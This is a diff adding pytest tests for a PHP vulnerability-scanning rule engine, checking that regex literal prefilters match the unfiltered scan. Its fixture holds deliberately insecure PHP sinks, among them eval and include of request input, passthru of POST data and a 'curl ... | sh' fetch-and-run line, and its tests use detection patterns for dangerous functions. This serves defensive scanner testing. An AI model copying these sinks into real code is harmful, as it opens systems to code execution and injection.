@@ -0,0 +1,197 @@
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from modules.analysis_context import AnalysisContext
+from modules.generic_rule_engine import GenericRuleEngine
+from modules.rule_literals import LiteralScan, byte_compatible, fold, required_literals
+
+PHP_RULE_SAMPLE = """<?php
+eval($_GET["code"]);
+ASSERT($input['x']);
+include($_GET['page']);
+require_once $_REQUEST['mod'];
+shell_exec("ls " . $dir);
+passthru($_POST['cmd']);
+system("curl http://example.com | sh");
+$obj = unserialize($_COOKIE['data']);
+$rows = query("SELECT * FROM users WHERE id = $id");
+phpinfo();
+call_user_func_array($callback, $args);
+$$name = $_GET['value'];
+move_uploaded_file($_FILES['f']['tmp_name'], "uploads/" . $_FILES['f']['name']);
+function __wakeup() {}
+?>
+<?= $_GET['q'] ?>
+<?php
+$mimeType = $file['type'];
+$ext = pathinfo($fileName, PATHINFO_EXTENSION);
+$blocked = '.htaccess';
+if ($alg == 'none') {}
+$sig = hash_hmac('sha256', $data, 'secret');
+$payload = ['sub' => 1, 'password' => $pw];
+return ['debug_code' => $code, 'token' => $token];
+$ip = $_SERVER['HTTP_X_FORWARDED_FOR'];
+$price = $_POST['price'];
+$order = $_GET['order_id'];
+// ſystem($_GET['x']) uses a long s, KELVIN a kelvin sign
+$note = "Ünïcödé text so byte scans take the decoded path";
+"""
+
+
+@pytest.fixture(scope="module")
+def engines() -> tuple[GenericRuleEngine, GenericRuleEngine]:
+    return GenericRuleEngine(prefilter=True), GenericRuleEngine(prefilter=False)
+
+
+def finding_keys(results: list[dict]) -> list[tuple[str, int, str]]:
+    return sorted((result["rule_id"], result["line"], result["match"]) for result in results)
+
+
+@pytest.mark.parametrize(
+    ("pattern", "flags", "expected"),
+    [
+        (r"eval\s*\(", 0, ("eval",)),
+        (r"(?:system|exec|passthru)\s*\(", 0, ("exec", "passthru", "system")),
+        (r"(?:ab|cd)ef", 0, ("abef", "cdef")),
+        (r"a|bcd", 0, ()),
+        (r"(?:system|\w+)_call", 0, ("_call",)),
+    ],
+    ids=["plain", "alternation", "alternation-concat", "short-branch", "open-branch"],
+)
+def test_required_literals_alternation(pattern: str, flags: int, expected: tuple[str, ...]) -> None:
+    assert required_literals(pattern, flags) == expected
+
+
+@pytest.mark.parametrize(
+    ("pattern", "expected"),
+    [
+        (r"mysql(i)?_query", ("mysql_query", "mysqli_query")),
+        (r"colou?r_picker", ("color_picker", "colour_picker")),
+        (r"(?:abc)?def", ("def",)),
+        (r"include(_once)?", ("include",)),
+        (r"x{3}yz", ()),
+        (r"(?:eval)*\(\$_GET", ("($_get",)),
+    ],
+    ids=["optional-group", "optional-char", "optional-prefix", "optional-suffix", "long-repeat", "star-group"],
+)
+def test_required_literals_optional_groups(pattern: str, expected: tuple[str, ...]) -> None:
+    assert required_literals(pattern) == expected
+
+
+@pytest.mark.parametrize(
+    ("pattern", "flags", "expected"),
+    [
+        (r"EVAL\(", re.IGNORECASE, ("eval(",)),
+        (r"(?i)Unserialize", 0, ("unserialize",)),
+        (r"K(elvin)", re.IGNORECASE, ("kelvin",)),
+        (r"(?i:SYSTEM)\(", 0, ("system(",)),
+    ],
+    ids=["flag", "inline", "kelvin", "scoped"],
+)
+def test_required_literals_case_insensitive(pattern: str, flags: int, expected: tuple[str, ...]) -> None:
+    assert required_literals(pattern, flags) == expected
+
+
+@pytest.mark.parametrize(
+    ("pattern", "expected"),
+    [
+        (r"[Ss]ystem", ("system",)),
+        (r"ev[a]l", ("eval",)),
+        (r"[a-z]+_query", ("_query",)),
+        (r"\$_[A-Z]+\[", ()),
+        (r"[\w.]+_token", ("_token",)),
+    ],
+    ids=["small-class", "single-class", "range-class", "range-only", "category-class"],
+)
+def test_required_literals_classes(pattern: str, expected: tuple[str, ...]) -> None:
+    assert required_literals(pattern) == expected
+
+
+@pytest.mark.parametrize(
+    ("pattern", "expected"),
+    [
+        (r"""(['"])secret\1""", ("\"secret", "'secret")),
+        (r"(\w+)=\1token", ("token",)),
+        (r"(?P<q>['\"])api_key(?P=q)", ("\"api_key", "'api_key")),
+        (r"(a)?(?(1)bcd|efg)", ()),
+    ],
+    ids=["numbered", "word-group", "named", "conditional"],
+)
+def test_required_literals_backrefs(pattern: str, expected: tuple[str, ...]) -> None:
+    assert required_literals(pattern) == expected
+
+
+@pytest.mark.parametrize("pattern", ["(", "a{2,1}", r"\p{L}"], ids=["unbalanced", "bad-repeat", "bad-escape"])
+def test_required_literals_invalid_pattern(pattern: str) -> None:
+    assert required_literals(pattern) == ()
+
+
+def test_fold_matches_regex_case_folding() -> None:
+    assert fold("SYSTEM") == "system"
+    assert fold("ſystem") == "system"
+    assert fold("Kelvin") == "kelvin"
+    assert fold("İnclude") == "include"
+    for text in ["ſystem(", "KELVIN", "İNCLUDE"]:
+        for pattern in [r"system\(", "kelvin", "include"]:
+            if re.search(pattern, text, re.IGNORECASE):
+                assert LiteralScan(text).any_present(required_literals(pattern, re.IGNORECASE))
+
+
+@pytest.mark.parametrize(
+    ("pattern", "flags", "expected"),
+    [
+        (r"eval\(\$_GET", 0, True),
+        (r"eval.\(", 0, False),
+        (r"eval[^;]\(", 0, False),
+        (r"eval[^;]+", 0, True),
+        (r"\beval\b", 0, False),
+        (r"\beval\b", re.ASCII, True),
+        (r"\w+_query", 0, False),
+        (r"\w+_query", re.ASCII, True),
+        (r"system", re.IGNORECASE, False),
+        (r"eval", re.IGNORECASE, True),
+        (r"(?-i:system)", re.IGNORECASE, True),
+        (r"[^'\"]*=", 0, True),
+        (r"(", 0, False),
+    ],
+)
+def test_byte_compatible(pattern: str, flags: int, expected: bool) -> None:
+    assert byte_compatible(pattern, flags) is expected
+
+
+def test_literals_never_reject_matching_lines(engines: tuple[GenericRuleEngine, GenericRuleEngine]) -> None:
+    engine, _unfiltered = engines
+    lines = PHP_RULE_SAMPLE.splitlines()
+    texts = [*lines, *(line.upper() for line in lines), PHP_RULE_SAMPLE]
+    checked = 0
+    for rules in engine.rule_index.values():
+        for rule in rules:
+            if rule.regex is None or not rule.literals:
+                continue
+            for text in texts:
+                if rule.regex.search(text):
+                    checked += 1
+                    assert LiteralScan(text).any_present(rule.literals), (rule.id, text)
+    assert checked
+
+
+@pytest.mark.parametrize(("transform", "min_rules"), [(str, 10), (str.upper, 3)], ids=["original", "upper"])
+def test_prefiltered_scan_matches_unfiltered_scan(
+    engines: tuple[GenericRuleEngine, GenericRuleEngine],
+    tmp_path,
+    transform,
+    min_rules: int,
+) -> None:
+    prefiltered, unfiltered = engines
+    path = tmp_path / "sample.php"
+    path.write_text(transform(PHP_RULE_SAMPLE), encoding="utf-8")
+
+    expected = finding_keys(unfiltered.scan_file(str(path), AnalysisContext.from_file(path)))
+
+    assert len({rule_id for rule_id, _line, _match in expected}) >= min_rules
+    assert finding_keys(prefiltered.scan_file(str(path), AnalysisContext.from_file(path))) == expected
+    assert finding_keys(prefiltered.scan_mapped_file(str(path))) == expected
+    assert finding_keys(unfiltered.scan_mapped_file(str(path))) == expected